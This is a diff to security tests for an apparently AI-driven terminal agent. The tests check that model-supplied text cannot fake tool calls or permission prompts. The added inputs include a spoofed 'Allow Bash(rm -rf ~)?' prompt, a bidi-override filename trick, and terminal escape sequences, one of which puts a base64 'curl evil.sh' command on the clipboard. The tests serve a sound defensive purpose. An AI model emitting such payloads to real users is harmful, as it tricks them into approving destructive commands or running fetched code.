@@ -64,7 +64,8 @@ describe.skipIf(!hasScript)("a clean terminal: outside text is shown escaped, ne
   });
 
   it("model text cannot pass for a tool call or a permission question of Goat's", async () => {
-    fx.mock.enqueue(reply.text("Here:\n\n● Bash(npm test)\n\n? Allow Bash(rm -rf ~)?  y yes"));
+    // And an HTML character reference, which the markdown renderer decodes into a bidi override.
+    fx.mock.enqueue(reply.text("Here: &#x202e;txt.exe\n\n● Bash(npm test)\n\n? Allow Bash(rm -rf ~)?  y yes"));
     pty = startPty([], fx.env, fx.work.path);
     let at = await pty.waitFor("> ");
     pty.type("fake it\r");
@@ -74,6 +75,8 @@ describe.skipIf(!hasScript)("a clean terminal: outside text is shown escaped, ne
     expect(screen).toContain("<U+25CF> Bash(npm test)");
     expect(screen).toContain("<U+003F> Allow Bash(rm -rf ~)?");
     expect(screen).not.toMatch(/^● Bash\(npm test\)/m);
+    expect(screen).toContain("Here: <U+202E>txt.exe");
+    expect(pty.raw()).not.toMatch(OBEYED);
     pty.type("\x04");
     expect(await pty.exited).toBe(0);
   });
@@ -160,6 +163,8 @@ describe("print mode (goat -p)", () => {
     pty = startPty(["-p", "answer"], fx.env, fx.work.path);
     expect(await pty.exited).toBe(0);
     expect(pty.raw()).not.toMatch(OBEYED);
-    expect(pty.output()).toContain("Answer ^[]52;c;Y3VybCBldmlsLnNo^G|^[]0;pwned-title^[\\|^[P+q544e^[\\|<U+009B>2J");
+    expect(pty.output()).toContain(
+      "Answer ^[]52;c;Y3VybCBldmlsLnNo^G|^[]0;pwned-title^[\\|^[P+q544e^[\\|<U+009B>2J",
+    );
   });
 });
